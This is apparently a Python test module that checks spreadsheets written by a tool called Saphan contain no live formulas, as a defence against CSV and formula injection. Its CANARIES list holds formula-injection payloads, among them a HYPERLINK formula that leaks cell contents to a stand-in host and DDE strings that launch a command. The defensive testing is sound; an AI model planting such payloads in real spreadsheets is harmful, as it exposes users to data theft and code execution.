"""Checks that a spreadsheet Saphan wrote runs nothing when it is opened."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from openpyxl import load_workbook

# Formulas a hostile or careless text could hold; each must reach a spreadsheet as text.
CANARIES = (
    '=HYPERLINK("http://x.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PHONE_CHARS = set("+0123456789 -()./")


def assert_no_formula_in_csv(path: Path, encoding: str = "utf-8-sig") -> None:
    """No text cell starts like a formula; numbers and phone numbers are data."""
    for line in csv.reader(io.StringIO(path.read_text(encoding), newline="")):
        for cell in line:
            if cell.startswith(FORMULA_START):
                assert set(cell) <= _PHONE_CHARS, cell


def assert_no_formula_in_xlsx(path: Path) -> None:
    """No cell of any sheet is a formula."""
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
